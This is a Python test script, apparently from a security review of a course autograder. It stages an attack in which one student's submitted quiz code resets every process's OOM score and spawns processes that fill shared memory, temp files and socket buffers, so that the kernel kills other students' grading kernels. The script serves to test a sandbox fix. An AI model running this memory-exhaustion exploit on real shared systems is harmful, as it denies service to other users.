"""a04: a01 plus a03: every process of mallory's sandbox first writes 0 to its oom_score_adj (the floor of
1000 is kept by Linux only when the writer had CAP_SYS_RESOURCE, which this root, like Docker's default root, lacks).
Who does the OOM killer take now?
(a01: round 50's fix makes every sandbox process (and launcher) oom_score_adj 1000, so the OOM killer chooses among
sandboxes by resident set. Memory that no resident set shows (tmpfs files, AF_UNIX socket queues) held by small
'ratchet' processes of mallory's, which re-take whatever a kill frees, makes the OOM killer kill the largest sandbox
processes first: her own kernel, then the NEXT student's kernel, started early while she runs (prestart), which
admission does not count. Simulated small host: the grader runs in a parent memory cgroup of HOST_GIB (as round 50).
argv: HOST_GIB HOLD_S"""
import sys, os, time, subprocess
from common import *

HOST_GIB = float(sys.argv[1]) if len(sys.argv) > 1 else 4
HOLD = int(sys.argv[2]) if len(sys.argv) > 2 else 60
PARENT = "/sys/fs/cgroup/memory" + [l.split(":")[2] for l in open("/proc/self/cgroup").read().split("\n") if ":memory:" in l][0]
HOST = PARENT + "/a51host4"
os.makedirs(HOST, exist_ok=True)
open(HOST + "/memory.limit_in_bytes", "w").write(str(int(HOST_GIB * 2**30)))
try:
    open(HOST + "/memory.memsw.limit_in_bytes", "w").write(str(int(HOST_GIB * 2**30)))
except OSError as e:
    print("memsw", e)
open(HOST + "/cgroup.procs", "w").write(str(os.getpid()))
print("grader runs in", HOST, "limit", HOST_GIB, "GiB")

RATCHET = r'''
import os, socket, time, sys
open("/proc/self/oom_score_adj", "w").write("0")
end = time.time() + float(sys.argv[1]); kind = sys.argv[2]
socks = []; buf = b"y" * 65536
if kind == "file":
    fs = [open(d + "/fill%d.bin" % os.getpid(), "ab") for d in ("/dev/shm", "/tmp", ".")]
while time.time() < end:
    grew = False
    if kind == "file":
        for f in fs:
            try:
                f.write(buf[:1 << 16]); f.flush(); grew = True
            except OSError:
                pass
    elif len(socks) < 1200:
        try:
            a, b = socket.socketpair(); a.setblocking(False); socks += [a, b]
            try:
                while True:
                    a.send(buf)
            except OSError:
                pass
            grew = True
        except OSError:
            pass
    if not grew:
        time.sleep(0.02)
'''
CODE = f'''
q1 = "b"
import os, time, sys, subprocess
for _p in os.listdir("/proc"):
    if _p.isdigit():
        try:
            open(f"/proc/{{_p}}/oom_score_adj", "w").write("0")
        except OSError as e:
            print("adj", _p, e)
print("adj now", [(p, open(f"/proc/{{p}}/oom_score_adj").read().strip()) for p in os.listdir("/proc") if p.isdigit()])
_rs = [subprocess.Popen([sys.executable, "-I", "-S", "-c", {RATCHET!r}, "{HOLD}", "file"])]
_rs += [subprocess.Popen([sys.executable, "-I", "-S", "-c", {RATCHET!r}, "{HOLD}", "sock"]) for _ in range(30)]
time.sleep({HOLD} + 5)
for p in _rs:
    p.kill()
print("mallory done", [p.wait() for p in _rs])
'''

def dmesg():
    return subprocess.run(["dmesg"], capture_output=True, text=True).stdout.split("\n")
d0 = len(dmesg())
c = make_course("a04")
hand_in(c, "aaron", honest())
hand_in(c, "mallory", honest(overrides={"quiz_q1": CODE}))
hand_in(c, "zoe", honest())
hand_in(c, "zz_zoe2", honest())
grade(c, timeout=1500)
scores(c); times(c); report(c); quiz_output(c)
print("'host' max usage", int(open(HOST + "/memory.max_usage_in_bytes").read()) >> 20, "MiB failcnt",
      open(HOST + "/memory.failcnt").read().strip())
print("--- kernel log since start (OOM kills) ---")
for l in dmesg()[d0:]:
    if "Killed process" in l:
        print(l[:300])
